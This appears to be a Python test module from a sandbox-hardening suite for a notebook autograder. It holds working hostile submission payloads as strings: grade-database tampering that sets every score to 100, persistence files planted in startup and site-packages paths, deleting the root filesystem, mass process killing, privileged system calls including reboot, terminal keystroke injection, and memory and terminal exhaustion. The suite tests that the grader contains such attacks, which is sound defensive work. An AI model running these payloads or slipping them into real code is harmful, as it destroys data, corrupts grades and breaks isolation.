"""Damage: other people's work, marks, the grader and its machine are out of reach, and nothing
stays behind.
"""

from __future__ import annotations

from tests.hostile.attack import LOUD, WORTH, Attack, before

PLANTED = "planted-by-a-submission"
SLEEPER = "86399.125"  # seconds: nothing else of the machine sleeps for just that long

GRADEBOOK = (
    LOUD
    + """
import glob
import sqlite3

for path in glob.glob("/**/gradebook.db", recursive=True) + glob.glob("../../../*.db"):
    found(path)
    sqlite3.connect(path).execute("UPDATE grade SET manual_score = 100")
import sqlalchemy, nbgrader"""
)

WRITES = f"""import os
import shutil

HOME = ("~", "/root", "/home/student", "/tmp", "/var/tmp", "/etc", "/usr/lib", "/", "/dev/shm", "/spool", "/run", "../..", "../../..")
PLACES = (
    "{PLANTED}", ".ipython/profile_default/startup/00-{PLANTED}.py", ".jupyter/{PLANTED}.py", ".config/{PLANTED}",
    "autograded/honest-right/day-50/inspect.ipynb", "submitted/honest-right/day-50/{PLANTED}", ".nbjudge/{PLANTED}",
)
import nbjudge, site
for home in (*HOME, *site.getsitepackages(), os.path.dirname(nbjudge.__file__), os.path.dirname(os.__file__)):
    for place in (*PLACES, "usercustomize.py.{PLANTED}", "{PLANTED}.pth"):
        path = os.path.join(os.path.expanduser(home), place)
        try:
            os.makedirs(os.path.dirname(path), exist_ok=True)
            open(path, "w").write("import os")
        except OSError:
            pass
for path in (nbjudge.__file__, os.__file__, "/usr/bin/bwrap", "/etc/passwd"):
    for deed in (lambda: open(path, "a").write("#"), lambda: os.unlink(path), lambda: os.chmod(path, 0o777), lambda: os.utime(path)):
        try:
            deed()
        except OSError:
            pass
shutil.rmtree("/", ignore_errors=True)"""

KILLS = """import os
import signal

for pid in (1, 0, -1, os.getppid(), *range(2, 400)):
    for number in (signal.SIGKILL, signal.SIGTERM, signal.SIGSTOP, signal.SIGINT):
        if pid == os.getpid() or pid in (0, -1):
            continue
        try:
            os.kill(pid, number)
        except OSError:
            pass"""

SUICIDE = """import os
import signal

os.kill(0, signal.SIGKILL)
os.kill(-1, signal.SIGKILL)"""

SLEEPERS = f"""import os
import subprocess

for _ in range(5):
    subprocess.Popen(["sleep", "{SLEEPER}"], start_new_session=True)
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        os.execlp("sleep", "sleep", "{SLEEPER}")
    os._exit(0)"""

SETTINGS = """import ctypes
import os
import resource
import time

libc = ctypes.CDLL(None, use_errno=True)
for deed in (
    lambda: time.clock_settime(time.CLOCK_REALTIME, 0),
    lambda: os.nice(-20),
    lambda: resource.setrlimit(resource.RLIMIT_NOFILE, (1 << 20, 1 << 20)),
    lambda: resource.setrlimit(resource.RLIMIT_DATA, (-1, -1)),
    lambda: os.setuid(0),
    lambda: os.sethostname("hostile"),
    lambda: os.chroot("/"),
    lambda: os.mknod("/tmp/disk", 0o60666, os.makedev(8, 0)),
    lambda: libc.mount(b"none", b"/mnt", b"tmpfs", 0, None),
    lambda: libc.unshare(0x10000000),
    lambda: libc.reboot(0x01234567),
    lambda: libc.swapoff(b"/swapfile"),
    lambda: open("/proc/sys/kernel/hostname", "w").write("hostile"),
    lambda: open("/proc/sysrq-trigger", "w").write("b"),
    lambda: open("/proc/1/oom_score_adj", "w").write("1000"),
    lambda: open("/sys/fs/cgroup/cgroup.procs", "w").write("1"),
):
    try:
        deed()
    except (OSError, ValueError, AttributeError):
        pass
os.umask(0)"""

TERMINAL = """import fcntl
import os
import termios

for path in ("/dev/tty", "/dev/console", "/dev/pts/0", "/proc/1/fd/2"):
    try:
        handle = os.open(path, os.O_RDWR)
        for char in b"touch planted-by-a-submission\\n":
            fcntl.ioctl(handle, termios.TIOCSTI, bytes([char]))
    except OSError:
        pass"""

CONFIGURATION = f"""c = get_config()
c.Exchange.root = "/tmp/{PLANTED}"
import subprocess
subprocess.run(["touch", "/tmp/{PLANTED}"])"""

MODULE = f"""import os
open("/tmp/{PLANTED}", "w").write(str(os.getpid()))
raise SystemExit("it must not be imported outside the box")"""

# Gigabytes that no process counts: each page is given up as soon as it is written.
GIVEN_UP = (
    LOUD
    + """
import mmap

with open("/dev/zero", "rb+") as file:
    for place in (-1, file.fileno()):
        kept = []
        try:
            while len(kept) < 160:
                kept.append(mmap.mmap(place, 64 << 20))
                kept[-1].write(b"x" * (64 << 20))
                kept[-1].madvise(mmap.MADV_DONTNEED)
            found("memory without end")
        except OSError:
            pass"""
)
# Of a process whose first thread has ended, the system says that it has no memory.
HEADLESS = """import ctypes
import os
import platform
import threading
import time

def hold():
    kept = b"x" * (1 << 30)
    while kept:
        time.sleep(1)

for _ in range(8):
    if os.fork() == 0:
        threading.Thread(target=hold).start()
        ctypes.CDLL(None).syscall({"x86_64": 60, "aarch64": 93}[platform.machine()], 0)
time.sleep(30)"""

# All that a machine has for its boxes: nobody else's `!command` would run.
TERMINALS = (
    LOUD
    + """
import os
import time

held = []
for _ in range(8):
    if os.fork() == 0:
        break
try:
    while True:
        held.append(os.open("/dev/ptmx", os.O_RDWR))
except OSError:
    time.sleep(5)
if held and int(open("/proc/sys/kernel/pty/nr").read()) > 2500:
    found("all terminals")"""
)


def _modules(folder):
    """Files that Python, IPython, Jupyter and nbgrader would read if they were started in the
    submission's folder.
    """
    names = (
        "numpy.py",
        "onnx.py",
        "nbjudge.py",
        "sitecustomize.py",
        "usercustomize.py",
        "conftest.py",
        "_virtualenv.py",
        "json.py",
    )
    for name in names:
        (folder / name).write_text(MODULE)
    for name in ("nbgrader_config.py", "ipython_config.py", "jupyter_config.py"):
        (folder / name).write_text(CONFIGURATION)
    (folder / "evil.pth").write_text(f"import os; os.system('touch /tmp/{PLANTED}')")
    for name in (".ipython/profile_default/startup", "nbjudge", "__pycache__"):
        (folder / name).mkdir(parents=True)
    (folder / ".ipython/profile_default/startup/00.py").write_text(MODULE)
    (folder / "nbjudge" / "__init__.py").write_text(MODULE)


def _harmless(name: str, source: str, lab: str = "inspect", **more) -> Attack:
    base, most = ("first_opset", WORTH) if lab == "inspect" else ("wrong", 0.0)
    return Attack(name, "damage", lab, base, most, deed=before(source), **more)


ATTACKS = [
    _harmless("gradebook", GRADEBOOK),
    _harmless("writes", WRITES),
    _harmless("kills", KILLS),
    _harmless("suicide", SUICIDE),
    _harmless("sleepers", SLEEPERS, exactly=True),
    _harmless("settings", SETTINGS),
    _harmless("terminal", TERMINAL, exactly=True),
    _harmless("memory-given-up", GIVEN_UP, exactly=True),
    _harmless("terminals", TERMINALS, costly=True),
    _harmless("memory-without-a-thread", HEADLESS, costly=True),
    Attack("modules", "damage", "inspect", "first_opset", WORTH, write=_modules, exactly=True),
    _harmless("plain-writes", WRITES, "first"),
    _harmless("plain-sleepers", SLEEPERS, "first"),
    Attack("plain-modules", "damage", "first", "wrong", 0.0, write=_modules),
]
